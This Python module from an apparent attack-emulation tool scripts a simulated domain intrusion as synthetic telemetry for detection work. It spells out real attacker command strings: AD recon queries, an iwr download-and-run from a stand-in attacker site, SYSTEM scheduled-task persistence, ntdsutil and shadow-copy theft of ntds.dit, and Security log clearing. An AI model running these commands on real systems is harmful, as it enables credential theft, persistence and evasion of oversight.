"""A hand at the keyboard: a web shell, the directory asked, servers taken, its database copied."""

from hauberk.emulate.accounts import Process, Session
from hauberk.emulate.agenda import Actor
from hauberk.emulate.company import Person
from hauberk.emulate.deeds import network_log_on, secure
from hauberk.emulate.directory import granting_ticket, service_ticket
from hauberk.emulate.programs import unknown
from hauberk.emulate.sensor import Amount
from hauberk.emulate.times import MINUTE
from hauberk.emulate.windows_deeds import (
    clear_log,
    connect,
    create_task,
    open_process,
    script,
    write_file,
)
from hauberk.emulate.windows_host import WindowsHost

from .attack import Attack
from .toolbox import beacon, dump_lsass, look_around, sweep, upload

_RECON = (
    "$s=New-Object DirectoryServices.DirectorySearcher;$s.Filter='(servicePrincipalName=*)';"
    "$s.FindAll() | % {{ $_.Properties.samaccountname }}",
    "Get-ADComputer -Filter * -Properties OperatingSystem | select Name,OperatingSystem",
    "([adsisearcher]'(memberOf=CN=Domain Admins,CN=Users,{base})').FindAll()",
    "Get-NetTCPConnection -State Established | select RemoteAddress,RemotePort",
)


def intrusion(attack: Attack) -> Actor:
    """A day and more; the night is used where there is one."""
    company, dice = attack.company, attack.dice
    at = attack.office_time(9.2, 10.5)
    portal, dc = company.windows["app01"], company.windows["dc01"]
    source = company.address(attack.site())
    yield at
    shell = _web_shell(attack, portal, source, at)
    at += dice.uniform(4, 20) * MINUTE
    yield at
    at = look_around(attack, portal, shell, at, 5)
    yield at
    console = _powershell(attack, portal, shell, at)
    at += dice.uniform(5, 20) * MINUTE
    site = attack.site("api", "telemetry", "assets")
    tool = f"C:\\ProgramData\\{attack.word()}\\{attack.word()}.exe"
    yield at
    implant = _implant(attack, portal, console, tool, at)
    ends = at + dice.uniform(5, 7) * 3600
    company.agenda.add(beacon(attack, portal, implant, site, ends, at + 5), at + 5)
    at += dice.uniform(8, 30) * MINUTE
    yield at
    sweep(attack, portal, implant, (135, 445, 3389, 5985), at)
    at += dice.uniform(10, 30) * MINUTE
    yield at
    _roast(attack, portal, at)
    at += dice.uniform(20, 60) * MINUTE
    yield at
    dump_lsass(attack, portal, implant, at)
    admins = [each for each in company.staff("it") if each.powers is not None]
    stolen = dice.choice(admins)
    at += dice.uniform(15, 50) * MINUTE
    yield at
    session, desktop = _to_controller(attack, portal, dc, stolen, at)
    at += dice.uniform(3, 12) * MINUTE
    yield at
    folder = _copy_directory(attack, dc, session, desktop, at)
    at += dice.uniform(5, 20) * MINUTE
    yield at
    _stage(attack, dc, desktop, folder, at)
    at += dice.uniform(5, 25) * MINUTE
    yield at
    upload(attack, portal, implant, site, dice.randrange(300, 1400), at)
    if dice.chance(0.5):
        with attack.step(
            "clear-log", "defense-evasion", ["T1070.001"],
            f"The Security log of {dc.name} is cleared",
            hosts=[dc.name], users=[session.account.name],
        ):  # fmt: skip
            dc.start(at + 60, "wevtutil", desktop, session, "wevtutil cl Security", lives=1)
            clear_log(dc, at + 60.5, session)


def _web_shell(attack: Attack, portal: WindowsHost, source: str, time: float) -> Process:
    """A page is uploaded to the portal and asked to run commands."""
    company, dice = attack.company, attack.dice
    page = f"/uploads/{attack.word()}.{dice.choice(('aspx', 'ashx'))}"
    host = f"portal.{company.domain}"
    account = company.services["svc_portal"]
    with attack.step(
        "web-shell", "initial-access", ["T1190", "T1505.003"],
        f"{source} puts {page} on {portal.name} and runs commands through it",
        hosts=[portal.name], ips=[source, portal.ip], users=[account.name], files=[page],
    ):  # fmt: skip
        session = portal.session(account, 5)
        worker = portal.start(time - 0.5, "w3wp", portal.running["svchost"], session)
        agent = f"python-requests/2.{dice.randrange(20, 33)}.0"
        put = ("POST", host, "/upload.ashx")
        company.sensor.http(time, source, (portal.ip, 80), put, agent, 200, 300, sent=4200)
        write_file(portal, time + 0.4, worker, f"C:\\inetpub\\portal{page}".replace("/", "\\"))
        at = time + 20
        shell = worker
        for command in ("whoami", "hostname", "dir C:\\inetpub"):
            company.sensor.http(at, source, (portal.ip, 80), ("POST", host, page), agent, 200,
                                dice.randrange(60, 900), "text/plain", 140)  # fmt: skip
            shell = portal.start(at + 0.2, "cmd", worker, session, f'"cmd.exe" /c {command}')
            if command == "whoami":
                portal.start(at + 0.3, "whoami", shell, session, lives=1)
            at += dice.uniform(5, 40)
    return shell


def _powershell(attack: Attack, host: WindowsHost, parent: Process, time: float) -> Process:
    base = ",".join(f"DC={part}" for part in attack.company.domain.split("."))
    with attack.step(
        "ask-directory", "discovery", ["T1059.001", "T1087.002", "T1018"],
        f"PowerShell on {host.name} asks the directory for accounts and computers",
        hosts=[host.name], users=[parent.session.account.name],
    ):  # fmt: skip
        shell = host.start(
            time, "powershell", parent, command="powershell.exe -nop -ep bypass -c -"
        )
        at = time + 3
        dc = attack.company.windows["dc01"]
        for text in attack.dice.sample(_RECON, 3):
            script(host, at, shell, text.format(base=base))
            amount = Amount(0.4, 2400, 31_000)
            seen = attack.company.sensor.connection(
                at + 0.2, host.ip, (dc.ip, 389), "ldap_tcp", amount
            )
            connect(host, at + 0.2, shell, (dc.ip, 389), dc.fqdn, seen.port)
            at += attack.dice.uniform(10, 90)
    return shell


def _implant(
    attack: Attack, host: WindowsHost, console: Process, tool: str, time: float
) -> Process:
    site = attack.site("get", "dist")
    with attack.step(
        "implant", "command-and-control", ["T1105", "T1059.001", "T1053.005"],
        f"{tool} is fetched from {site}, started, and scheduled on {host.name}",
        hosts=[host.name], domains=[site], files=[tool],
    ):  # fmt: skip
        text = f"iwr https://{site}/{attack.word()} -OutFile {tool}; & {tool}"
        script(host, time, console, text)
        amount = Amount(2, 900, attack.dice.randrange(400_000, 3_000_000))
        secure(attack.company, host, time + 0.5, console, site, amount, "powershell", known=False)
        write_file(host, time + 1.5, console, tool)
        implant = host.start(time + 2, unknown(tool), console)
        name = f"\\{attack.word()}"
        host.start(time + 30, "schtasks", console,
                   command=f'schtasks /create /tn "{name[1:]}" /tr {tool} /sc hourly /ru SYSTEM /f',
                   lives=1)  # fmt: skip
        create_task(host, time + 30.4, console.session, name, tool)
    return implant


def _roast(attack: Attack, source: WindowsHost, time: float) -> None:
    """Weakly enciphered tickets for every service account, within a minute."""
    company = attack.company
    account = company.services["svc_portal"]
    victims = [each for each in company.services.values() if each is not account]
    with attack.step(
        "roast", "credential-access", ["T1558.003"],
        f"{account.name} asks from {source.name} for RC4 tickets of service accounts",
        users=[account.name, *(each.name for each in victims)], ips=[source.ip],
        hosts=[source.name],
    ):  # fmt: skip
        granting_ticket(company, time, account, source.ip)
        at = time + 1
        servers = ("sql01", "bk01", "mgt01", "ex01")
        for victim, name in zip(victims, servers, strict=False):
            service_ticket(company, at, source, account, company.windows[name], victim.name[4:],
                           cipher="0x17", owner=victim)  # fmt: skip
            at += attack.dice.uniform(0.2, 4)


def _to_controller(
    attack: Attack, source: WindowsHost, dc: WindowsHost, person: Person, time: float
) -> tuple[Session, Process]:
    """The domain controller's desktop, with somebody else's rights."""
    company = attack.company
    account = person.powers or person.account
    seconds = attack.dice.uniform(1500, 4000)
    with attack.step(
        "to-controller", "lateral-movement", ["T1021.001", "T1078.002"],
        f"{account.full} logs on from {source.name} to {dc.name} by remote desktop",
        users=[account.name], hosts=[source.name, dc.name], ips=[source.ip, dc.ip],
    ):  # fmt: skip
        seen = company.sensor.rdp(time, source.ip, dc.ip, account.name, source.name, seconds)
        svchost = source.running["svchost"]
        connect(source, time, svchost, (dc.ip, 3389), dc.fqdn, seen.port)
        network_log_on(company, time + 1, source, dc, account, "TERMSRV", "NTLM")
        session = dc.log_on(time + 2, account, 10, (source.name, source.ip))
        userinit = dc.start(time + 3, "userinit", dc.running["winlogon"], session, lives=20)
        explorer = dc.start(time + 3.5, "explorer", userinit, session, lives=seconds)
        dc.log_off(time + seconds, session)
    return session, explorer


def _copy_directory(
    attack: Attack, dc: WindowsHost, session: Session, desktop: Process, time: float
) -> str:
    """The directory's database is copied."""
    folder = f"C:\\Windows\\Temp\\{attack.word()}"
    with attack.step(
        "copy-directory", "credential-access", ["T1003.003"],
        f"The directory's database is copied to {folder} on {dc.name}",
        hosts=[dc.name], users=[session.account.name], files=[f"{folder}\\ntds.dit"],
    ):  # fmt: skip
        shell = dc.start(time, "cmd", desktop, session, integrity="High")
        if attack.dice.chance(0.5):
            command = f'ntdsutil.exe "ac i ntds" "ifm" "create full {folder}" q q'
            tool = dc.start(time + 9, "ntdsutil", shell, command=command, lives=40)
        else:
            dc.start(time + 9, "vssadmin", shell, command="vssadmin create shadow /for=C:", lives=8)
            copy = "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit"
            tool = dc.start(
                time + 25, "cmd", shell, command=f"cmd /c copy {copy} {folder}", lives=9
            )
        dc.start(time + 11, "vssvc", lives=200)
        open_process(dc, time + 12, tool, dc.running["lsass"], "0x1000")
        write_file(dc, time + 30, tool, f"{folder}\\Active Directory\\ntds.dit")
        write_file(dc, time + 33, tool, f"{folder}\\registry\\SYSTEM")
    return folder


def _stage(attack: Attack, dc: WindowsHost, desktop: Process, folder: str, time: float) -> None:
    """What was copied is packed."""
    archive = f"C:\\Windows\\Temp\\{attack.word()}.{attack.dice.choice(('7z', 'rar', 'zip'))}"
    tool = f"C:\\Windows\\Temp\\{attack.word(2, 4)}.exe"
    with attack.step(
        "stage", "collection", ["T1560.001", "T1074.002"], f"{folder} is packed into {archive}",
        hosts=[dc.name], files=[archive],
    ):  # fmt: skip
        secret = attack.dice.token(12)
        packer = unknown(tool, f"{tool} a -hp{secret} -m5 {archive} {folder}")
        write_file(dc, time - 5, desktop, tool)
        process = dc.start(time, packer, desktop, integrity="High", lives=70)
        write_file(dc, time + 2, process, archive)
